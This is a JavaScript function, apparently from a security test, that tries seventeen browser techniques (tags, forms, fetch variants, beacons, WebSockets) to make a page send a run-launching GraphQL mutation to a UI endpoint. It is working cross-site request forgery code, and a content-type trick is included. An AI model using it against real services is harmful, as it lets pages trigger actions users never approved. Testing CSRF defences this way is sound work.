// What a page can make a browser send to another address, by every way that needs no permission. `attack(ui, launch)`: `launch(name)`
// is a GraphQL mutation that launches a run marked with that name. Resolves to {name: what the page saw}.
async function attack(ui, launch) {
  const api = `${ui}/graphql`;
  const body = (name) => JSON.stringify({query: launch(name)});
  const address = (name) => `${api}?query=${encodeURIComponent(launch(name))}`;
  const patience = (ms) => new Promise((done) => setTimeout(() => done('silence'), ms));
  const seen = {};

  const element = (name, tag, attribute, value) => new Promise((done) => {
    const made = document.createElement(tag);
    made.onload = () => done('load');
    made.onerror = () => done('error');
    if (tag === 'link') made.rel = 'stylesheet';
    made[attribute] = value;
    document.body.append(made);
  });

  const form = (name, method, enctype, action, fields) => new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.name = name;
    document.body.append(frame);
    frame.onload = () => done('load');
    const made = document.createElement('form');
    Object.assign(made, {method, enctype, action, target: name});
    for (const [key, value] of Object.entries(fields)) {
      const field = document.createElement('input');
      Object.assign(field, {name: key, value});
      made.append(field);
    }
    document.body.append(made);
    made.submit();
  });

  const fetched = (name, url, options) => fetch(url, options).then(async (r) => `${r.type} ${r.status} ${await r.text()}`, () => 'error');
  const socket = (name) => new Promise((done) => {
    const made = new WebSocket(address(name).replace('http', 'ws'), 'graphql-ws');
    made.onopen = () => done('open');
    made.onerror = () => done('error');
  });

  const ways = {
    'img': (name) => element(name, 'img', 'src', address(name)),
    'script': (name) => element(name, 'script', 'src', address(name)),
    'link': (name) => element(name, 'link', 'href', address(name)),
    'iframe': (name) => element(name, 'iframe', 'src', address(name)),
    'form get': (name) => form(name, 'get', '', api, {query: launch(name)}),
    'form urlencoded': (name) => form(name, 'post', 'application/x-www-form-urlencoded', address(name), {query: launch(name)}),
    'form multipart': (name) => form(name, 'post', 'multipart/form-data', address(name), {query: launch(name)}),
    'form text': (name) => form(name, 'post', 'text/plain', address(name), {[body(name).slice(0, -1) + ', "a": "']: '"}'}),
    'fetch get': (name) => fetched(name, address(name), {mode: 'no-cors'}),
    'fetch text': (name) => fetched(name, api, {mode: 'no-cors', method: 'POST', body: body(name)}),
    'fetch query': (name) => fetched(name, address(name), {mode: 'no-cors', method: 'POST'}),
    'fetch keepalive': (name) => fetched(name, address(name), {mode: 'no-cors', method: 'POST', keepalive: true}),
    'fetch mistaken for json': (name) => fetched(name, api, {
      mode: 'no-cors', method: 'POST', body: body(name), headers: {'content-type': 'text/plain; application/json'}}),
    'fetch cors': (name) => fetched(name, address(name), {method: 'POST'}),
    'fetch json': (name) => fetched(name, api, {method: 'POST', body: body(name), headers: {'content-type': 'application/json'}}),
    'beacon': async (name) => `${navigator.sendBeacon(address(name), new Blob([body(name)], {type: 'text/plain'}))}`,
    'websocket': socket,
  };
  await Promise.all(Object.entries(ways).map(async ([name, way]) => {
    seen[name] = await Promise.race([way(name), patience(8000)]);
  }));
  return seen;
}
